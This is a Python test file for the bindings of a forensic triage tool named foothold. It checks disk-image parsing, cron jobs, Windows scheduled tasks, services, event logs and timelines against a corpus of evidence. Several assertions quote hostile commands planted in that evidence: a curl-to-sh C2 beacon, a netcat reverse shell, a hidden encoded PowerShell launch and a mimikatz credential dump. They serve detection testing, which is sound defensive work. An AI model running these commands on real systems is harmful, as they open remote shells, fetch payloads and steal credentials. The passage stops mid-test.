"""The Python API on the corpus images; expected values come from corpus/images/*.fls.txt
(sleuthkit) and from what corpus/build.sh wrote."""
import concurrent.futures
import hashlib
import json
import pathlib
import shutil
import subprocess

import pytest

from conftest import skip as conftest_skip

import foothold

ROOT = pathlib.Path(__file__).resolve().parents[3]


def test_open_accepts_str_and_pathlike(corpus):
    img = corpus("gpt-disk")
    a = foothold.open(img)
    b = foothold.open(str(img))
    assert a.info() == b.info()
    assert a.format == "raw"
    assert a.size == 64 * 1024 * 1024


def test_volumes_are_typed_and_match_the_cli(corpus):
    img = corpus("gpt-disk")
    ev = foothold.open(img)
    vols = ev.volumes()
    assert [(v.number, v.offset // 512, v.filesystem) for v in vols] == [
        (1, 2048, "fat12"),
        (2, 18432, "ntfs"),
        (3, 67584, "ext4"),
    ]
    assert vols[1].label == "GPT-NTFS"
    assert vols[0].name == "EFI system partition"
    cli = subprocess.run(
        [str(ROOT / "target" / "debug" / "foothold"), "info", "--format", "json", str(img)],
        capture_output=True,
        text=True,
    )
    if cli.returncode == 0:
        assert [v.to_dict() for v in vols] == json.loads(cli.stdout)["volumes"]
    info = ev.info()
    assert [o["family"] for o in info["os"]] == ["windows", "linux"]


def test_files_match_fls_and_to_dict_is_the_jsonl_record(corpus):
    img = corpus("ext4-inline")
    ev = foothold.open(img)
    entries = list(ev.files())
    paths = {e.path for e in entries}
    fls = (ROOT / "corpus" / "images" / "ext4-inline.fls.txt").read_text()
    want = set()
    for line in fls.splitlines():
        if line.startswith("##") or "\t" not in line:
            continue
        meta, rest = line.split("\t", 1)
        name = rest.split("\t")[0]
        if "*" in meta or name.startswith("$OrphanFiles"):
            continue
        want.add("/" + name)
    assert paths == want
    tiny = next(e for e in entries if e.path == "/tiny.txt")
    assert tiny.kind == "file" and tiny.size == 5 and tiny.uid == 0
    assert isinstance(tiny.modified, foothold.Timestamp) and str(tiny.modified).endswith("Z")
    assert tiny.to_dict()["entry"] == tiny.entry
    assert foothold.FileEntry._from(tiny.to_dict()) == tiny


def test_read_matches_icat_hashes(corpus):
    img = corpus("ntfs-features")
    ev = foothold.open(img)
    lines = (ROOT / "corpus" / "images" / "ntfs-features.sha256.txt").read_text().splitlines()
    wanted = {l.split("\t")[3]: l.split("\t")[2] for l in lines}
    for path in ["comp/compressed.txt", "fragmented.txt", "ads.txt:hidden", "ünïcødé/папка/файл.txt"]:
        assert hashlib.sha256(ev.read("/" + path)).hexdigest() == wanted[path], path
    assert ev.read("/ADS.TXT:hidden") == b"hidden payload\n"


def test_deleted_entries_and_streams(corpus):
    ev = foothold.open(corpus("ntfs-features"))
    listing = ev.listing("/frag", deleted=True)
    assert listing.errors == []
    deleted = [e for e in listing.entries if e.deleted]
    assert len(deleted) == 1200
    assert all(e.path.startswith("/frag/f") for e in deleted)
    ads = [e for e in ev.files("/ads.txt")]
    assert [(e.path, e.stream, e.size) for e in ads] == [
        ("/ads.txt", None, 8),
        ("/ads.txt:big", "big", 50893),
        ("/ads.txt:hidden", "hidden", 15),
    ]


def test_errors_are_python_exceptions(corpus, tmp_path):
    with pytest.raises(FileNotFoundError):
        foothold.open(tmp_path / "nope.img")
    junk = tmp_path / "junk.img"
    junk.write_bytes(b"\x5a" * 8192)
    ev = foothold.open(junk)
    with pytest.raises(foothold.UnsupportedFormat, match="no readable volume"):
        ev.read("/etc/passwd")
    with pytest.raises(foothold.UnsupportedFormat):
        foothold.open(corpus("gpt-disk")).read("/x", volume=1)  # FAT: recognised, not read
    with pytest.raises(FileNotFoundError):
        foothold.open(corpus("ext4-inline")).read("/no/such/file")
    empty = tmp_path / "empty.img"
    empty.write_bytes(b"")
    with pytest.raises(foothold.FootholdError) as e:
        foothold.open(empty)
    assert "too small" in str(e.value)
    assert issubclass(foothold.CorruptEvidence, foothold.FootholdError)


def test_many_images_from_a_thread_pool(corpus):
    imgs = [corpus(n) for n in ["ext4-features", "ntfs-features", "mbr-logical", "ext2-blockmap"]]
    serial = [len(list(foothold.open(i).files())) for i in imgs]
    with concurrent.futures.ThreadPoolExecutor(max_workers=4) as pool:
        parallel = list(pool.map(lambda i: len(list(foothold.open(i).files())), imgs))
    assert parallel == serial
    assert min(serial) > 0


def test_real_split_raw(real_corpus):
    ev = foothold.open(real_corpus / "images" / "dfvfs__ext2.splitraw.000")
    assert ev.format == "split_raw"
    assert ev.volumes()[0].label == "ext2_test"


def test_scan_cron_jobs_are_typed_and_equal_the_cli(corpus, tmp_path):
    img = corpus("linux-rhel")
    ev = foothold.open(img)
    report = ev.scan()
    assert report.errors == []
    jobs = ev.cron_jobs()
    assert [j.to_dict() for j in jobs] == [r for r in report.records() if r["artifact"] == "cron_job"]
    # The other records of a Linux image are its services, accounts (passwd, group) and host.
    assert {r["artifact"] for r in report.records()} == {"cron_job", "linux_service", "account", "host"}
    # The service the fstrim timer starts: a package's unit with no [Install], so static.
    svc = [r for r in report.records() if r["artifact"] == "linux_service"]
    assert [(s["name"], s["state"], s["vendor"]) for s in svc] == [("fstrim.service", "static", True)]
    # The same records as objects, from the report and from the evidence.
    assert [s.to_dict() for s in report.linux_services] == svc
    assert [(s.name, s.state, s.vendor) for s in ev.linux_services()] == [("fstrim.service", "static", True)]
    assert any(a.name == "root" and a.admin and a.admin_because[0] == "uid 0" for a in report.accounts)
    bob = next(j for j in jobs if j.source.path == "/var/spool/cron/bob")
    assert (bob.kind, bob.user, bob.schedule, bob.line) == ("crontab", "bob", "*/2 * * * *", 1)
    assert bob.source.volume == 1 and bob.source.filesystem == "ext4"
    at = next(j for j in jobs if j.kind == "at")
    assert at.at["run_at"] == "2030-01-01T12:00:00Z" and at.command == "/tmp/.hidden/run --once"
    cli = subprocess.run(
        [str(ROOT / "target" / "debug" / "foothold"), "scan", "--format", "jsonl", str(img)],
        capture_output=True,
        text=True,
    )
    if cli.returncode == 0:
        assert [json.loads(l) for l in cli.stdout.splitlines()] == report.records()
    out = tmp_path / "scan.jsonl"
    report.to_json(out)
    assert [json.loads(l) for l in out.read_text().splitlines()] == report.records()
    with pytest.raises(ValueError):
        ev.scan(only=["nope"])


def test_to_pandas(corpus):
    pd = pytest.importorskip("pandas")
    df = foothold.open(corpus("linux-debian")).scan().to_pandas()
    assert isinstance(df, pd.DataFrame)
    assert len(df) == 21
    assert set(df["kind"]) == {"system_crontab", "crontab", "anacron", "periodic_script", "at", "systemd_timer"}
    assert "source.path" in df.columns


def test_parse_crontab_loose_bytes():
    jobs, errors = foothold.parse_crontab(b"MAILTO=x\n@reboot /tmp/a\nnot a job\n", user="eve")
    assert [(j.schedule, j.user, j.command, j.line) for j in jobs] == [("@reboot", "eve", "/tmp/a", 2)]
    assert jobs[0].environment == {"MAILTO": "x"}
    assert errors[0]["line"] == 3
    sys_jobs, _ = foothold.parse_crontab(b"0 0 * * * root /x\n")
    assert sys_jobs[0].user == "root"


def test_tasks_typed_with_provenance(corpus):
    ev = foothold.open(corpus("windows-tasks"))
    tasks = {t.name: t for t in ev.tasks()}
    assert len(tasks) == 214
    tarrask = tasks["\\Hidden\\Tarrask"]
    assert tarrask.flags == ["registry_only", "no_security_descriptor", "hidden_setting"]
    # Enabled, hidden, account and triggers come from the decoded TaskCache Triggers value.
    assert tarrask.enabled and tarrask.hidden
    assert tarrask.principal.user_id == "S-1-5-18"
    assert [t.type for t in tarrask.triggers] == ["boot", "calendar"]
    assert tarrask.triggers[1].interval == "PT5M"
    assert tarrask.taskcache["triggers"]["flag_names"] == ["enabled", "hidden", "run_level_highest_available", "task"]
    assert not tasks["\\Orphaned"].enabled
    every = tasks["\\Actions\\Everything"]
    assert every.hidden and not every.enabled
    assert [a.type for a in every.actions] == ["exec", "exec", "com_handler", "send_email", "show_message"]
    assert every.actions[3].fields["Server"] == "smtp.example.invalid"
    assert isinstance(every.principal, foothold.Principal) and every.principal.logon_type == "S4U"
    assert every.command_line == "powershell.exe -nop -w hidden -enc SQBFAFgA"
    assert every.principal.required_privileges == ["SeDebugPrivilege", "SeImpersonatePrivilege"]
    all_kinds = tasks["\\Triggers\\AllKinds"]
    assert all_kinds.triggers[0] == foothold.TaskTrigger(
        type="time", enabled=True, id="t1", start_boundary="2026-11-01T03:00:00", end_boundary="2027-11-01T03:00:00",
        interval="PT15M", duration="P1D", stop_at_duration_end=True, random_delay="PT30S", execution_time_limit="PT1H")
    assert report_tasks_alias(ev)
    at1 = tasks["\\At1"]
    assert at1.sources == ["xml", "job", "taskcache"] and at1.job_source.path == "/Windows/Tasks/At1.job"
    assert at1.source.filesystem == "ntfs" and at1.source.entry > 0
    report = ev.scan()
    assert [e.source.path for e in report.errors] == [
        "/Windows/System32/Tasks/Broken/Malformed",
        "/Windows/System32/Tasks/Broken/Truncated",
    ]


def test_parse_loose_task_files(real_corpus):
    t = foothold.parse_task_xml((real_corpus / "tasks" / "museum_Tasks__Win10__APTSimulatorVM__GameOver").read_bytes())
    assert t.command_line == "C:\\TMP\\mim.exe sekurlsa::LogonPasswords > C:\\TMP\\o.txt"
    assert t.triggers[0].interval == "PT5M"
    j = foothold.parse_job((real_corpus / "tasks" / "plaso__wintask.job").read_bytes())
    assert j.job["status_name"] == "ready" and j.author == "Brian"
    with pytest.raises(foothold.CorruptEvidence):
        foothold.parse_task_xml(b"<Task><Actions>")


def test_services_typed(corpus):
    ev = foothold.open(corpus("windows-tasks"))
    services = {(s.control_set, s.name): s for s in ev.services()}
    assert len(services) == 5
    evil = services[("ControlSet002", "EvilSvc")]
    assert evil.current and evil.start_name == "automatic"
    assert evil.image_path_resolved == "/Program Files/Evil Corp/evil.exe"
    assert evil["failure_actions"]["actions"][0] == {"type": "run_command", "delay_ms": 5000}
    assert evil.source.key == "ControlSet002\\Services\\EvilSvc"
    assert not services[("ControlSet001", "EvilSvc")].current
    assert services[("ControlSet002", "UpdSvc")].service_dll == "%SystemRoot%\\System32\\updsvc.dll"


def report_tasks_alias(ev):
    r = ev.scan(only=["tasks"])
    return r.tasks is r.scheduled_tasks and len(r.tasks) == 214


def test_open_hive_replays_logs(real_corpus):
    h = real_corpus / "hives"
    hive = foothold.open_hive(
        (h / "yarp__NewDirtyHive1__NewDirtyHive").read_bytes(),
        logs=[(h / "yarp__NewDirtyHive1__NewDirtyHive.LOG2").read_bytes(), (h / "yarp__NewDirtyHive1__NewDirtyHive.LOG1").read_bytes()],
    )
    assert hive.dirty and hive.replay["logs_applied"] == ["log2", "log1"] and hive.replay["last_sequence"] == 5
    assert hive.services == [] and hive.task_cache == []
    with pytest.raises(foothold.CorruptEvidence):
        foothold.open_hive(b"garbage")


def test_triage_notebook_runs(tmp_path):
    # Run from its own folder, as `jupyter nbconvert --execute` would, with nothing set: it
    # finds the repository root and the demo disk where corpus/demo/run.sh puts it.
    nbformat = pytest.importorskip("nbformat")
    nbclient = pytest.importorskip("nbclient")
    demo = ROOT / "target" / "demo" / "demo.img"
    if not demo.exists():
        demo.parent.mkdir(parents=True, exist_ok=True)
        subprocess.run(["zstd", "-q", "-d", str(ROOT / "corpus" / "demo" / "demo.img.zst"), "-o", str(demo)], check=True)
    here = ROOT / "bindings" / "python" / "examples"
    nb = nbformat.read(here / "triage.ipynb", as_version=4)
    import os

    assert "FOOTHOLD_DEMO" not in os.environ
    nbclient.NotebookClient(nb, timeout=120, kernel_name="python3", resources={"metadata": {"path": str(here)}}).execute()
    outputs = "".join(
        o.get("data", {}).get("text/plain", "") for c in nb.cells if c.cell_type == "code" for o in c.get("outputs", [])
    )
    assert "OneDrive Updater {5A1B}" in outputs, "the demo's hidden task is listed"
    assert "curl -fsS http://c2.example.invalid/b | sh" in outputs, "the cron beacon is flagged"


def test_events_typed_and_tied_to_tasks(real_corpus, tmp_path):
    logs = tmp_path / "Windows" / "System32" / "winevt" / "Logs"
    logs.mkdir(parents=True)
    src = real_corpus / "evtx" / "mdecrevoisier__ID4688_4698_4699_5145_4624-ATexec_remote_trask_creation_GLOBAL.evtx"
    (logs / "Security.evtx").write_bytes(src.read_bytes())
    ev = foothold.open(tmp_path)
    events = ev.events()
    assert [e.event_id for e in events] == [4698, 4699]
    # One scan, kept: events() gives exactly what scan() gives, and does not rescan.
    # (Compared without the host file's access time, which reading it changes.)
    again = ev.scan().events
    assert [(e.record_id, e.object_missing, e.task) for e in events] == [(e.record_id, e.object_missing, e.task) for e in again]
    assert ev.report() is ev.report()
    assert events[0].task.command_line == "cmd.exe /C whoami > %windir%\\Temp\\bouWFQYO.tmp 2>&1"
    assert events[0].source.record_id == events[0].record_id
    # System/TimeCreated and EventRecordID as evtx_dump shows them; the header's time kept as `written`.
    assert str(events[0].timestamp) == "2021-06-10T21:21:26.3837263Z"
    assert events[0].record_id == 2004852
    assert str(events[0].written) == "2021-06-10T21:21:26.3907508Z"


def _container(name, tmp_path_factory):
    """A container made by qemu-img/ewfacquire (corpus/containers), decompressed."""
    if shutil.which("zstd") is None:
        conftest_skip("zstd is not installed (bash .ci/run installs it)")
    d = tmp_path_factory.getbasetemp() / "containers"
    d.mkdir(exist_ok=True)
    out = d / name
    if not out.exists():
        src = ROOT / "corpus" / "containers" / f"{name}.zst"
        subprocess.run(["zstd", "-q", "-d", str(src), "-o", str(out)], check=True)
    return out


def test_e01_metadata_and_verification(tmp_path_factory, corpus):
    ev = foothold.open(_container("disk-e01.E01", tmp_path_factory))
    assert ev.format == "ewf"
    assert ev.container["case_number"] == "CASE-42"
    assert ev.container["examiner_name"] == "Examiner Name"
    raw = pathlib.Path(corpus("gpt-disk")).read_bytes()
    assert ev.stored_hashes["md5"] == hashlib.md5(raw).hexdigest()
    v = ev.verify()
    assert v["matches"] is True
    assert v["computed"]["sha1"] == hashlib.sha1(raw).hexdigest()
    assert v["computed"]["sha256"] == hashlib.sha256(raw).hexdigest()
    # The same files as on the raw disk.
    assert [f.path for f in ev.files("/", volume=3)] == [f.path for f in foothold.open(corpus("gpt-disk")).files("/", volume=3)]


def test_qcow2_and_vmdk_read_like_the_raw_disk(tmp_path_factory, corpus):
    raw = foothold.open(corpus("gpt-disk"))
    want = raw.read("/etc/os-release", volume=3)
    for name in ["disk-compressed.qcow2", "disk-stream.vmdk", "disk-dynamic.vhdx"]:
        ev = foothold.open(_container(name, tmp_path_factory))
        assert ev.read("/etc/os-release", volume=3) == want, name
        assert ev.verify()["matches"] is None, name


def test_activity_of_the_user_who_made_the_atexec_task(real_corpus, tmp_path):
    logs = tmp_path / "Windows" / "System32" / "winevt" / "Logs"
    logs.mkdir(parents=True)
    src = real_corpus / "evtx" / "mdecrevoisier__ID4688_4698_4699_5145_4624-ATexec_remote_trask_creation_GLOBAL.evtx"
    (logs / "Security.evtx").write_bytes(src.read_bytes())
    ev = foothold.open(tmp_path)
    rows = ev.activity("OFFSEC\\admmig")
    kinds = [r.summary.label for r in rows]
    assert kinds.count("session") == 3 and "event 4698" in kinds and "event 4699" in kinds
    times = [r.summary.time for r in rows]
    assert times == sorted(times)
    created = next(r for r in rows if r.summary.label == "event 4698")
    session = created.to_dict()["session"]
    assert (session["logon_id"], session["source_address"], session["address_inferred"]) == ("0x5a419bc", "10.23.123.11", True)
    report = ev.scan()
    assert {s.logon_id for s in report.sessions} >= {"0x5a419bc", "0x5a41984"}
    assert ev.activity("nobody") == []
    # `around` takes a record's time as it is (a Timestamp, an aware datetime): the same rows
    # as its RFC 3339 text.
    at = created.timestamp
    near = [r.to_dict() for r in ev.activity("OFFSEC\\admmig", around=at, window=60)]
    assert near and near == [r.to_dict() for r in ev.activity("OFFSEC\\admmig", around=str(at), window=60)]
    assert near == [r.to_dict() for r in ev.activity("OFFSEC\\admmig", around=at.to_datetime(), window=60)]
    with pytest.raises(ValueError):
        ev.activity("OFFSEC\\admmig", around=at.to_datetime().replace(tzinfo=None))


def test_activity_of_a_linux_user_from_auth_log_and_histories(corpus):
    # corpus/build.sh build_linux_auth: real sshd, sudo, useradd and crontab lines logged by
    # rsyslogd, and the histories bash and zsh wrote.
    ev = foothold.open(corpus("linux-auth"))
    rows = ev.activity("mallory")
    labels = [r.summary.label for r in rows]
    assert labels.count("auth ssh_accepted") == 8  # 4 in auth.log, their year-less copies in secure
    assert "auth user_added" in labels and "bash history" in labels and "zsh history" in labels
    sudo = [r for r in rows if r.summary.label == "auth sudo" and r.timestamp is not None]
    assert [r.command_line for r in sudo][1].startswith("/usr/bin/sh -c 'echo \"@reboot")
    assert sudo[0].to_dict()["data"]["refused"] == "a password is required"
    import pandas as pd

    timed = [pd.Timestamp(r.summary.time) for r in rows if r.summary.time is not None]
    assert timed == sorted(timed)  # as instants: 13:37:59Z sorts before 13:37:59.2056Z
    root_tab = next(c for c in ev.scan().cron_jobs if c.user == "root")
    assert root_tab.to_dict()["created_by"]["flags"] == ["installed_through_sudo"]
    assert root_tab.to_dict()["created_by"]["user"] == "mallory"


def test_cron_jobs_name_the_files_they_run(corpus):
    # linux-debian: a run-parts script is itself what runs; a crontab's `curl … | sh` names
    # curl, the address and sh, and is flagged.
    report = foothold.open(corpus("linux-debian")).scan()
    update = next(c for c in report.cron_jobs if c.source.path == "/etc/cron.daily/update.sh")
    first = update.binaries[0]
    assert (first["kind"], first["status"], first["path"]) == ("script", "found", "/etc/cron.daily/update.sh")
    assert first["script"]["first_lines"][1] == "nc -e /bin/sh 203.0.113.7 4444"
    assert len(first["sha256"]) == 64
    piped = next(c for c in report.cron_jobs if "c2.example.invalid" in c.command)
    assert "piped_to_shell" in piped.runs[0]["invocation"]["flags"]
    assert [b["status"] for b in piped.binaries if b["kind"] == "url"] == ["remote"]


def test_timeline_rows_in_utc_order_in_timesketch_shape(corpus):
    import pandas as pd

    report = foothold.open(corpus("linux-auth")).scan()
    rows = report.timeline()
    assert rows and [pd.Timestamp(r["time"]) for r in rows] == sorted(pd.Timestamp(r["time"]) for r in rows)
    descs = {r["timestamp_desc"] for r in rows}
    assert {"auth ssh_accepted", "auth sudo", "crontab installed (who did it)", "cron file modified (mtime)"} <= descs
    # Every row names the record and where its time comes from.
    assert all(r["artifact"] and r["source"]["path"] for r in rows)
    df = report.to_pandas("timeline")
    assert len(df) == len(rows) and "source.path" in df.columns
    # Times are datetimes (to the nanosecond), as in every other frame: sorting the frame by
    # time gives the rows' own order, which text would not (`…22Z` sorts after `…22.33Z`).
    assert str(df["time"].dtype) == "datetime64[ns, UTC]"
    assert df["time"].is_monotonic_increasing
    assert [t.value for t in df["time"]] == [pd.Timestamp(r["time"]).value for r in rows]
    assert foothold.open(corpus("linux-auth")).scan(timeline=False).timeline() == []


def test_host_and_next_runs(corpus):
    # linux-auth: no /etc/localtime (UTC, glibc's default); the newest file of /var/log is
    # the host's last write, and every crontab's next runs are counted from it.
    report = foothold.open(corpus("linux-auth")).scan()
    (host,) = report.hosts
    assert (host.os, host.time_zone) == ("linux", "UTC")
    assert host.os_name == "Debian GNU/Linux 12 (bookworm)"
    newest = max(host.last_write_sources, key=lambda s: s["time"])
    assert host.last_write == newest["time"] and newest["path"].startswith("/var/log/")
    every5 = next(c for c in report.cron_jobs if c.schedule == "*/5 * * * *")
    f = every5.to_dict()["frequency"]
    assert f["next_runs_after"] == str(host.last_write) and len(f["next_runs"]) == 5
    import pandas as pd

    runs = [pd.Timestamp(t) for t in f["next_runs"]]
    assert runs[0] > pd.Timestamp(str(host.last_write)) and all(t.minute % 5 == 0 for t in runs)
    assert [(b - a).total_seconds() for a, b in zip(runs, runs[1:])] == [300.0] * 4
    assert report.to_pandas("host")["os"].tolist() == ["linux"]


def test_tasks_deleted_within_a_second_come_back_from_the_log(real_corpus, tmp_path):
    # The real smbexec log: a task created and deleted 94 ms later, rebuilt from its
    # 4698/4699 (as foothold's Rust tests check against evtx_dump).
    root = tmp_path / "img"
    logs = root / "Windows" / "System32" / "winevt" / "Logs"
    logs.mkdir(parents=True)
    (root / "Windows" / "System32" / "Tasks").mkdir()
    src = real_corpus / "evtx" / "mdecrevoisier__ID4698-4699-Fast_created_and_deleted_task_by_SMBexec_sups._arg..evtx"
    (logs / "Security.evtx").write_bytes(src.read_bytes())
    report = foothold.open(root).scan()
    (t,) = [t for t in report.tasks if t.recovered]
    assert t.name == "\\smbservice" and t.sources == ["event_log"]
    assert t.recovered["from"] == "event_log"
    assert (str(t.recovered["created"]), str(t.recovered["deleted"])) == ("2020-07-11T21:38:17.3514486Z", "2020-07-11T21:38:17.4452024Z")
    assert t.actions[0].command == "C:\\WINDOWS\\Temp\\MpCmdRun.bat"
    assert "deleted (event_log)" in t.summary.flags


def test_case_on_a_dask_local_cluster_equals_the_local_engine(corpus, tmp_path):
    # Three corpus images and a file that is not one, through a real LocalCluster with two
    # worker processes and through the local engine: the same statuses and, read back by
    # pyarrow, the same Parquet rows.
    try:
        import distributed  # noqa: F401
        import pyarrow.dataset as pa_ds
    except ImportError as e:  # bindings/python/test.sh installs both
        conftest_skip(f"{e}: the Dask engine is not compared")
    import foothold.case

    imgs = tmp_path / "imgs"
    imgs.mkdir()
    for n in ["linux-debian", "linux-rhel", "windows-tasks"]:
        (imgs / f"{n}.img").symlink_to(corpus(n))
    (imgs / "junk.img").write_bytes(b"\0" * 4096)
    a = foothold.case.scan([imgs], tmp_path / "dask", engine="dask", n_workers=2)
    b = foothold.case.scan([imgs], tmp_path / "local")
    key = lambda s: (s["path"], s["status"], s["host"], s["records"], s["errors"])
    assert sorted(map(key, a)) == sorted(map(key, b))
    assert [s["status"] for s in a if s["path"].endswith("junk.img")] == ["failed"]

    def rows(d):
        t = pa_ds.dataset(str(d / "parquet"), format="parquet", partitioning="hive").to_table()
        return sorted(zip(map(str, t.column("artifact").to_pylist()), t.column("host").to_pylist(), t.column("record").to_pylist()))

    assert rows(tmp_path / "dask") == rows(tmp_path / "local") and len(rows(tmp_path / "local")) > 100
    # Resumed on the cluster: nothing left to do.
    again = foothold.case.scan([imgs], tmp_path / "dask", engine="dask", n_workers=2)
    assert all(s.get("skipped") for s in again if s["status"] == "done")
    df = foothold.case.stack(tmp_path / "local", by="name")
    assert list(df.columns) == ["key", "artifacts", "hosts", "records", "example"] and len(df) > 10
    pdf = foothold.case.read(tmp_path / "local", "cron_job")
    assert len(pdf) > 5
    # The same rows read by polars and by dask.dataframe (one partition per image).
    try:
        import polars
    except ImportError as e:  # bindings/python/test.sh installs it
        conftest_skip(f"{e}: the polars reading is not compared")
    pl = foothold.case.read(tmp_path / "local", "cron_job", library="polars")
    dd = foothold.case.read(tmp_path / "local", "cron_job", library="dask")
    want = sorted(zip(pdf["host"], pdf["record"]))
    assert sorted(zip(pl["host"].to_list(), pl["record"].to_list())) == want
    got = dd.compute()
    assert sorted(zip(got["host"], got["record"])) == want
    assert isinstance(polars.DataFrame(), type(foothold.case.read(tmp_path / "local", "no_such_kind", library="polars")))


def test_case_notebook_runs(corpus, tmp_path):
    # bindings/python/examples/case.ipynb on a folder of corpus images: the scan's statuses,
    # the stacked items, the per-host counts and the timeline plot.
    import os

    try:
        import matplotlib  # noqa: F401
        import nbclient
        import nbformat
    except ImportError as e:  # bindings/python/test.sh installs them
        conftest_skip(f"{e}: the case notebook is not run")
    imgs = tmp_path / "imgs"
    imgs.mkdir()
    for n in ["linux-debian", "linux-rhel", "windows-tasks", "linux-auth"]:
        (imgs / f"{n}.img").symlink_to(corpus(n))
    nb = nbformat.read(ROOT / "bindings" / "python" / "examples" / "case.ipynb", as_version=4)
    os.environ["FOOTHOLD_CASE_IMAGES"] = str(imgs)
    os.environ["FOOTHOLD_CASE_OUT"] = str(tmp_path / "case")
    try:
        # From its own folder (the images and the case folder given by path).
        nbclient.NotebookClient(nb, timeout=180, kernel_name="python3", resources={"metadata": {"path": str(ROOT / "bindings" / "python" / "examples")}}).execute()
    finally:
        del os.environ["FOOTHOLD_CASE_IMAGES"], os.environ["FOOTHOLD_CASE_OUT"]
    outs = [o for c in nb.cells if c.cell_type == "code" for o in c.get("outputs", [])]
    text = "".join(o.get("data", {}).get("text/plain", "") for o in outs)
    assert "linux-rhel" in text and "windows-tasks" in text
    assert "/tmp/.hidden/run --once" in text, "the RHEL at job is a rare item"
    assert any("image/png" in o.get("data", {}) for o in outs), "the timeline plot"


def test_notebook_ergonomics(corpus, real_corpus, tmp_path):
    # `only` as one string; every event record of a loose log and a filter by ID; a hive
    # opened by its path with the logs beside it; short reprs; exceptions named as imported;
    # an artifact with no record gives a DataFrame with its columns; polars beside pandas.
    ev = foothold.open(corpus("linux-debian"))
    assert [j.command for j in ev.scan(only="cron").cron_jobs] == [j.command for j in ev.scan(only=["cron"]).cron_jobs]
    with pytest.raises(ValueError):
        ev.scan(only="crons")
    log = foothold.open(real_corpus / "evtx" / "mdecrevoisier__ID4688_4698_4699_5145_4624-ATexec_remote_trask_creation_GLOBAL.evtx")
    assert [e.event_id for e in log.events()] == [4698, 4699]
    every = log.events(all=True)
    assert len(every) == 12  # the log's records, as `foothold events --all` (checked against evtx_dump)
    assert {e.event_id for e in log.events(all=True, ids=[4624])} == {4624}
    assert all(e.object_missing is None for e in every), "a loose log compares nothing"
    h = real_corpus / "hives"
    d = tmp_path / "hive"
    d.mkdir()
    for n in ["NewDirtyHive", "NewDirtyHive.LOG1", "NewDirtyHive.LOG2"]:
        (d / n).write_bytes((h / f"yarp__NewDirtyHive1__{n}").read_bytes())
    by_path = foothold.open_hive(d / "NewDirtyHive")
    # Both logs found beside it and replayed, to the same sequence number as given as bytes.
    assert by_path.dirty and sorted(by_path.replay["logs_applied"]) == ["log1", "log2"] and by_path.replay["last_sequence"] == 5
    assert repr(by_path) == "Hive(dirty=True, services=0, task_cache=0)"
    assert repr(foothold.CorruptEvidence).startswith("<class 'foothold.CorruptEvidence'")
    r = ev.scan()
    empty = r.to_pandas("scheduled_task")
    assert len(empty) == 0 and {"artifact", "name", "actions", "source"} <= set(empty.columns)
    try:
        import polars  # noqa: F401
    except ImportError as e:  # bindings/python/test.sh installs it
        conftest_skip(f"{e}: polars is not compared")
    pdf, pl = r.to_pandas("cron_job"), r.to_polars("cron_job")
    assert pl.height == len(pdf) > 10
    assert pl["command"].to_list() == list(pdf["command"])
    assert pl["source.path"].to_list() == list(pdf["source.path"])
    assert r.to_polars("scheduled_task").columns == list(empty.columns)
    # UTC times are datetime64[ns, UTC] columns, to the nanosecond the record writes.
    assert str(pdf["source.modified"].dtype) == "datetime64[ns, UTC]"
    import pandas as pd

    raw = r.cron_jobs[0].to_dict()["source"]["modified"]
    assert pdf["source.modified"][0] == pd.Timestamp(raw)
    assert str(pl["source.modified"].dtype) == "Datetime(time_unit='ns', time_zone='UTC')"
    assert pl["source.modified"].to_list()[0] == pdf["source.modified"][0].to_pydatetime()
    # A task's `date` is local time (no zone written): it stays text.
    wr = foothold.open(corpus("windows-tasks")).scan(only="tasks")
    win = wr.to_pandas("scheduled_task")
    assert win["date"].dropna().map(type).eq(str).all() and str(win["source.modified"].dtype) == "datetime64[ns, UTC]"
    # NTFS's 100 ns digit survives: the column equals the record's string exactly.
    wraw = wr.scheduled_tasks[0].to_dict()["source"]["modified"]
    assert len(wraw.split(".")[1]) == 8 and win["source.modified"][0] == pd.Timestamp(wraw)


def test_readme_python_example_runs_as_written(corpus, real_corpus, monkeypatch):
    # The README's first ```python block, run from the repository root with the demo disk at
    # target/demo/demo.img (where corpus/demo/run.sh puts it) and the shared corpus beside it.
    import contextlib
    import io
    import re

    text = (ROOT / "README.md").read_text()
    block = re.search(r"## Python\n.*?```python\n(.*?)```", text, re.S).group(1)
    demo = ROOT / "target" / "demo" / "demo.img"
    if not demo.exists():
        demo.parent.mkdir(parents=True, exist_ok=True)
        subprocess.run(["zstd", "-q", "-d", str(ROOT / "corpus" / "demo" / "demo.img.zst"), "-o", str(demo)], check=True)
    if not (ROOT.parent / "shared" / "corpus-real").is_dir():
        conftest_skip("../shared/corpus-real is not beside the repository")
    monkeypatch.chdir(ROOT)
    out = io.StringIO()
    with contextlib.redirect_stdout(out):
        exec(compile(block, "README.md", "exec"), {})
    printed = out.getvalue().splitlines()
    assert printed[0] == "['ntfs', 'ext4']"
    assert printed[-1] == "Hive(dirty=True, services=0, task_cache=0)"


def test_case_notebook_runs_as_shipped_after_the_demo_command(tmp_path):
    # From a fresh clone after `bash corpus/demo/run.sh` (which leaves target/demo/demo.img),
    # with no variables set: the notebook's defaults must work (they once raised KeyError).
    import os
    import subprocess

    try:
        import matplotlib  # noqa: F401
        import nbclient
        import nbformat
    except ImportError as e:  # bindings/python/test.sh installs them
        conftest_skip(f"{e}: the case notebook is not run")
    demo = ROOT / "target" / "demo" / "demo.img"
    if not demo.exists():
        demo.parent.mkdir(parents=True, exist_ok=True)
        subprocess.run(["zstd", "-q", "-d", str(ROOT / "corpus" / "demo" / "demo.img.zst"), "-o", str(demo)], check=True)
    nb = nbformat.read(ROOT / "bindings" / "python" / "examples" / "case.ipynb", as_version=4)
    saved = {k: os.environ.pop(k) for k in ["FOOTHOLD_CASE_IMAGES", "FOOTHOLD_CASE_OUT"] if k in os.environ}
    try:
        nbclient.NotebookClient(nb, timeout=180, kernel_name="python3", resources={"metadata": {"path": str(ROOT)}}).execute()
    finally:
        os.environ.update(saved)
    outs = [o for c in nb.cells if c.cell_type == "code" for o in c.get("outputs", [])]
    text = "".join(o.get("data", {}).get("text/plain", "") for o in outs)
    assert "demo.img" in text and "done" in text, text[:2000]
    assert any("image/png" in o.get("data", {}) for o in outs), "the timeline plot"


def test_shadow_copies_listed_and_read(real_corpus):
    img = real_corpus / "images" / "plaso__vsstest.qcow2"
    live = foothold.open(img)
    snaps = live.volumes()[0].snapshots()
    assert [s["store"] for s in snaps] == [1, 2]
    assert snaps[0]["shadow_copy_id"] == "4e3c03c2-7bc6-4288-ad96-c1eac1a55f71"
    assert snaps[0]["created"] == "2013-12-03T06:35:09.7363787Z"
    # The first snapshot still holds /syslog, which the live volume no longer has.
